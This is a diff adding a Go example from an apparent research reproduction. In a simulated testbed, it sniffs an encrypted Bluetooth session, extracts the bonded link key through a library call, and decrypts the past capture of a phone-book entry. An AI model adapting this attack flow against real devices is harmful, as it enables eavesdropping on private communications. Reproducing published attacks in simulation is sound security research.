@@ -1,0 +1,100 @@
+// Eavesdropping with an extracted link key (paper §IV): the attack "can
+// also be used ... to decrypt not only the future, but also the past
+// communications of M captured by air-sniffers".
+//
+// Timeline of this example:
+//  1. an air sniffer starts recording all baseband traffic;
+//  2. the victim phone M reconnects to its bonded accessory C, turns on
+//     E0 link encryption, and transfers a phone book entry — the sniffer
+//     captures only ciphertext plus the LMP handshake;
+//  3. the attacker runs the link key extraction attack against C;
+//  4. with the stolen link key the attacker recomputes the ACO from the
+//     sniffed E1 challenge, derives the E0 session key from the sniffed
+//     encryption-start random, and decrypts the PAST capture.
+package main
+
+import (
+	"fmt"
+	"log"
+	"time"
+
+	"repro/internal/core"
+	"repro/internal/device"
+)
+
+func main() {
+	tb, err := core.NewTestbed(77, core.TestbedOptions{
+		ClientPlatform: device.GalaxyS21Android11,
+		Bond:           true,
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	sniffer := core.NewAirSniffer(tb.Medium)
+
+	// Step 2: encrypted session with sensitive data.
+	secret := []byte("PBAP vcard: BEGIN:VCARD N:Hur;Junbeom TEL:+82-2-3290-4603 END:VCARD")
+	tb.M.Host.Pair(tb.C.Addr(), func(err error) {
+		if err != nil {
+			log.Fatalf("reconnect: %v", err)
+		}
+		conn := tb.M.Host.Connection(tb.C.Addr())
+		tb.M.Host.Encrypt(conn, func(err error) {
+			if err != nil {
+				log.Fatalf("encrypt: %v", err)
+			}
+			tb.M.Host.SendData(conn, secret)
+		})
+	})
+	tb.Sched.RunFor(10 * time.Second)
+	tb.M.Host.Disconnect(tb.C.Addr())
+	tb.Sched.RunFor(time.Second)
+
+	fmt.Printf("sniffer captured %d frames, %d of them encrypted payloads\n",
+		sniffer.Len(), sniffer.EncryptedFrames())
+
+	// Without the key the capture is opaque.
+	var wrong [16]byte
+	blind := sniffer.DecryptWithKey(wrong)
+	for _, rec := range blind {
+		if rec.WasEncrypted && containsSub(rec.Data, secret) {
+			log.Fatal("ciphertext leaked the secret without the key?!")
+		}
+	}
+	fmt.Println("without the link key: ciphertext only, secret unreadable")
+
+	// Step 3: steal the key.
+	rep, err := core.RunLinkKeyExtraction(tb.Sched, core.LinkKeyExtractionConfig{
+		Attacker: tb.A, Client: tb.C, Target: tb.M.Addr(), Channel: core.ChannelHCISnoop,
+	})
+	if err != nil {
+		log.Fatalf("extraction: %v", err)
+	}
+	fmt.Printf("extracted link key: %s\n", rep.Key)
+
+	// Step 4: decrypt the past.
+	for _, rec := range sniffer.DecryptWithKey(rep.Key) {
+		if rec.WasEncrypted && containsSub(rec.Data, secret) {
+			fmt.Printf("decrypted past traffic (%s -> %s at t=%v):\n  %q\n",
+				rec.From, rec.To, rec.At.Round(time.Millisecond), rec.Data[6:])
+			return
+		}
+	}
+	log.Fatal("failed to decrypt the sniffed session")
+}
+
+func containsSub(haystack, needle []byte) bool {
+	for i := 0; i+len(needle) <= len(haystack); i++ {
+		ok := true
+		for j := range needle {
+			if haystack[i+j] != needle[j] {
+				ok = false
+				break
+			}
+		}
+		if ok {
+			return true
+		}
+	}
+	return false
+}
